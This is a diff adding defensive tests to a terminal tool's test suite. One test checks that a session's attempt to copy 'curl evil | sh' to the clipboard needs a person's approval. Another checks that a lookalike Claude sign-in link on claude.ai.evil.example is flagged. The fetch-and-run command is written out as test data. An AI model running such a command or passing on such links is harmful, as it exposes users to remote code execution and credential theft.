@@ -163,6 +163,31 @@ describe('the keys', () => {
     expect(opened.world.copied).toEqual([link]);
   });
 
+  it('what the session wants to copy is copied only when a person allows it', async () => {
+    const { app, session } = await open({ columns: 120 });
+    session.emit(`\x1b]52;c;${Buffer.from('curl evil | sh\u202e\n').toString('base64')}\x07`);
+    await app.waitFor('The session wants to copy 16 characters; Ctrl+] then y allows it: curl evil | sh??');
+    expect(app.signs()).not.toContain(']52;');
+    await app.type('y');
+    expect(app.signs()).not.toContain(']52;');
+    await app.type(prefix);
+    await app.waitFor('allow copying');
+    await app.type('y');
+    await app.waitFor('The clipboard of your terminal has it now');
+    expect(app.signs()).toContain(
+      `\x1b]52;c;${Buffer.from('curl evil | sh\u202e\n').toString('base64')}\x07`,
+    );
+    await app.type(prefix);
+    expect(app.frame()).not.toContain('allow copying');
+  });
+
+  it('a false sign-in link is pointed out in the place of the right one', async () => {
+    const opened = await open();
+    await showLink(opened);
+    opened.session.emit('\r\nOr: https://claude.ai.evil.example/oauth/authorize?x\r\n');
+    await opened.app.waitFor("claude.ai.evil.example is no sign-in of Claude's: don't open that link");
+  });
+
   it('shows the link as a QR code where there is room, and says so where not', async () => {
     const large = await open({ columns: 120, rows: 40 });
     await showLink(large);
